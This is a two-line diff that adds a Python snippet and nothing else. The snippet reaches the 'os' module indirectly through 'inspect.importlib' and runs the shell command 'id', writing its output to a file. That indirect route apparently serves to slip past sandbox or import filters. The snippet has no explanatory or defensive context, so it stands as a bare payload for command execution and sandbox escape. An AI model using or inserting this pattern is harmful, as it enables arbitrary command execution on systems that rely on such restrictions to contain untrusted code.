@@ -1,0 +1,2 @@
+import inspect
+inspect.importlib.import_module("os").system("id>pf")
